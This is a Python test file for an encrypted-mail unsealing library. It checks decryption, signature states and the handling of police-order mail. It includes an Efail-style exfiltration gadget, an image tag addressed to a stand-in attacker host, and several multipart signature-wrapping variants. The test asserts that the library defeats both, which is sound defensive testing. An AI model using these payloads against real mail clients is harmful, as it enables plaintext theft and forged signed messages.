"""What is sealed opens in one child and is read in another; each part for itself, whatever stood beside it."""

from __future__ import annotations

import base64
import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import pytest

from dueprocess.adapters import openpgp_mail
from dueprocess.client import unsealing
from dueprocess.formats.mail_key import MailSecret
from dueprocess.formats.mail_signature import Signature
from dueprocess.formats.refusal import DeniedError
from sealed_mail import ORDER, Gpg, entity, inline, pgp_mime

pytestmark = pytest.mark.slow
ADDRESS, POLICE = "orders@desk.example", "post@police.example"
NOW = dt.datetime.now(dt.UTC) + dt.timedelta(minutes=1)


@pytest.fixture
def ring(tmp_path: Path) -> Iterator[Gpg]:
    made = Gpg.at(tmp_path / "gpg")
    made.key(POLICE)
    yield made
    made.end()


def test_parts_are_opened_and_read_apart(ring: Gpg) -> None:
    secret, public = openpgp_mail.make(ADDRESS)
    ring.run("--import", data=public)
    known, ours = [ring.run("--export", POLICE)], [MailSecret(base64.b64encode(secret).decode())]
    seal = ("-a", "-r", ADDRESS, "-u", POLICE)

    def opened(mail: bytes) -> list[unsealing.Part]:
        return unsealing.unsealed(mail, ours, known, NOW, {"aliases": {}, "authorities": []})

    (mail,) = opened(pgp_mime(ring.run(*seal, "-es", data=entity())))
    assert (mail.fault, mail.signed.state, mail.name) == ("", Signature.VALID, "opened.eml")
    assert ("Subject", "Az. 12 Js 3/26", True) in mail.headers
    assert mail.draft is not None
    assert mail.draft["targets"] == ["max@provider.example"]
    # A picture's address that would take the clear text along stays outside (Efail).
    gadget = inline(ring.run(*seal, "-es", data=ORDER.encode()), '<img src="https://evil.example/\n')
    (text,) = opened(gadget)
    assert (text.content.decode(), b"evil" in text.content) == (ORDER, False)
    signed = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + ORDER.encode().replace(b"\n", b"\r\n")
    detached = ring.run("-a", "-u", POLICE, "--detach-sign", data=signed)
    for body, state in ((signed, Signature.VALID), (signed.replace(b"max", b"mux"), Signature.BROKEN)):
        head = b'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="s"\r\n\r\n'
        whole = head + b"--s\r\n" + body + b"\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n" + detached
        (part,) = opened(pgp_mime(ring.run("-a", "-r", ADDRESS, "-e", data=whole + b"\r\n--s--\r\n")))
        assert part.signed.state is state
    # What is shown is what was signed: a part before, a part more, or a border that another reader sees (ADR 0102).
    order = b"Content-Type: text/plain\r\n\r\nORDER: give press@postfach.example"
    sig = b"Content-Type: application/pgp-signature\r\n\r\n" + detached
    for wrapped in (
        b"\r\n--sX\r\n" + signed + b"\r\n--s\r\n" + order + b"\r\n--s\r\n" + sig + b"\r\n--s--\r\n",
        b"--s\r\n" + signed + b"\r\n--s\r\n" + sig + b"\r\n--s\r\n" + order + b"\r\n--s--\r\n",
        b"\r--s\r" + order.replace(b"\r\n", b"\r") + b"\r--s\r" + sig.replace(b"\r\n", b"\r") + b"\r--s--\r\r\n"
        b"--s\r\n" + signed + b"\r\n--s\r\n" + sig + b"\r\n--s--\r\n",
    ):
        (part,) = opened(pgp_mime(ring.run("-a", "-r", ADDRESS, "-e", data=head + wrapped)))
        assert part.signed.state in {Signature.UNCHECKED, Signature.BROKEN}
    (other,) = opened(pgp_mime(ring.run("-a", "-r", POLICE, "-e", data=entity())))
    assert (other.fault, other.content) == ("other-key", b"")
    with pytest.raises(DeniedError, match="Nothing here"):
        opened(ORDER.encode())
